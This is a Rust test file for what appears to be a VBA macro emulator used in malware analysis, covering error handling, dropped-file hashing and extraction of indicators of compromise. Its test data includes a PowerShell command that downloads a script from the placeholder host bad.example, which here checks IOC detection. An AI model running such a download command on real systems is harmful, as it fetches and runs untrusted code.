mod common;

use std::rc::Rc;

use formula_vba_emu::{
    call_procedure, exec_block, Context, ErrorMode, ErrorState, Expr, OnErrorTarget, Procedure,
    Stmt, VarDecl, VbaValue,
};
use pretty_assertions::assert_eq;
use sha2::{Digest, Sha256};

use common::var;

fn divide_by_zero(target: &str) -> Stmt {
    Stmt::assign(
        target,
        Expr::binary(formula_vba_emu::BinOp::Div, Expr::lit(1), Expr::lit(0)),
    )
}

#[test]
fn names_are_case_insensitive() {
    let mut ctx = Context::default();
    ctx.set("Payload", VbaValue::from("calc.exe"));
    assert_eq!(ctx.get("PAYLOAD").unwrap(), VbaValue::from("calc.exe"));
    assert_eq!(ctx.get("payload").unwrap(), VbaValue::from("calc.exe"));

    ctx.set("PAYLOAD", VbaValue::from("notepad.exe"));
    assert_eq!(ctx.get("Payload").unwrap(), VbaValue::from("notepad.exe"));
}

#[test]
fn unhandled_error_stops_the_block() {
    let mut ctx = Context::default();
    exec_block(
        &[
            Stmt::assign("a", Expr::lit(1)),
            divide_by_zero("b"),
            Stmt::assign("c", Expr::lit(3)),
        ],
        &mut ctx,
    )
    .unwrap();

    assert_eq!(ctx.get("a").unwrap(), VbaValue::Integer(1));
    assert!(ctx.get("b").is_err());
    assert!(ctx.get("c").is_err());
    assert!(ctx.must_handle_error());
    assert_eq!(ctx.error_count(), 1);
    assert_eq!(ctx.last_error().number, 11);
}

#[test]
fn resume_next_keeps_going() {
    let mut ctx = Context::default();
    exec_block(
        &[
            Stmt::OnError(OnErrorTarget::ResumeNext),
            divide_by_zero("b"),
            Stmt::assign("c", Expr::lit(3)),
        ],
        &mut ctx,
    )
    .unwrap();

    assert_eq!(ctx.error_mode(), &ErrorMode::ResumeNext);
    assert!(!ctx.must_handle_error());
    assert_eq!(ctx.get("c").unwrap(), VbaValue::Integer(3));
    assert_eq!(ctx.last_error().number, 11);
}

#[test]
fn registered_handler_runs_once_and_leaves_state_handled() {
    let mut ctx = Context::default();
    ctx.register_error_handler(Rc::from(vec![Stmt::assign("handled", Expr::lit(true))]));
    ctx.set_error_mode(ErrorMode::GotoLabel("fail".to_string()));

    exec_block(&[divide_by_zero("x")], &mut ctx).unwrap();
    assert_eq!(ctx.error_state(), ErrorState::Pending);

    ctx.handle_error().unwrap();
    assert_eq!(ctx.error_state(), ErrorState::Handled);
    assert_eq!(ctx.get("handled").unwrap(), VbaValue::Boolean(true));
    assert_eq!(ctx.error_mode(), &ErrorMode::Default);

    // A handled error does not re-enter the handler.
    ctx.set("handled", VbaValue::Boolean(false));
    ctx.handle_error().unwrap();
    assert_eq!(ctx.get("handled").unwrap(), VbaValue::Boolean(false));
}

#[test]
fn on_error_goto_label_inside_procedure() {
    let mut ctx = Context::default();
    exec_block(
        &[Stmt::Dim(vec![
            VarDecl::new("status", None),
            VarDecl::new("after", None),
        ])],
        &mut ctx,
    )
    .unwrap();
    let proc = Rc::new(Procedure::sub(
        "Work",
        &[],
        vec![
            Stmt::OnError(OnErrorTarget::Label("Fail".to_string())),
            divide_by_zero("x"),
            Stmt::assign("after", Expr::lit("ran")),
            Stmt::Exit(formula_vba_emu::ExitKind::Sub),
            Stmt::Label("Fail".to_string()),
            Stmt::assign("status", Expr::lit("caught")),
        ],
    ));

    call_procedure(&proc, Vec::new(), &mut ctx).unwrap();

    assert_eq!(ctx.get("status").unwrap(), VbaValue::from("caught"));
    assert_eq!(ctx.get("after").unwrap(), VbaValue::Null);
    assert!(!ctx.must_handle_error());
}

#[test]
fn written_files_are_hashed_on_close() {
    let mut ctx = Context::default();
    exec_block(
        &[
            Stmt::WriteFile {
                file_number: Expr::lit("#2"),
                value: Expr::lit("&H4D"),
            },
            Stmt::WriteFile {
                file_number: Expr::lit("#2"),
                value: Expr::lit("&H5A"),
            },
        ],
        &mut ctx,
    )
    .unwrap();
    assert!(ctx.file_is_open("#2"));

    ctx.dump_all_files();

    assert!(!ctx.file_is_open("#2"));
    let expected = format!("{:x}", Sha256::digest(b"MZ"));
    let drop = ctx
        .actions()
        .into_iter()
        .find(|a| a.kind == "Dropped File Hash")
        .unwrap();
    assert_eq!(drop.value, expected);
    assert_eq!(ctx.closed_files().values().next().unwrap(), &b"MZ".to_vec());
}

#[test]
fn opened_file_is_keyed_by_name() {
    let mut ctx = Context::default();
    ctx.set("path", VbaValue::from("C:\\Users\\Public\\a.vbs"));
    exec_block(
        &[
            Stmt::Open {
                path: var("path"),
                file_number: Expr::lit(1),
            },
            Stmt::WriteFile {
                file_number: Expr::lit(1),
                value: Expr::lit("WScript.Echo 1"),
            },
            Stmt::Close(vec![Expr::lit(1)]),
        ],
        &mut ctx,
    )
    .unwrap();

    let files = ctx.closed_files();
    assert_eq!(
        files.keys().cloned().collect::<Vec<_>>(),
        vec!["C:/Users/Public/a.vbs".to_string()]
    );
}

#[test]
fn string_assignments_feed_iocs() {
    let mut ctx = Context::default();
    ctx.set("u", VbaValue::from("powershell iwr http://bad.example/x.ps1"));
    assert_eq!(ctx.iocs(), vec!["http://bad.example/x.ps1".to_string()]);
}
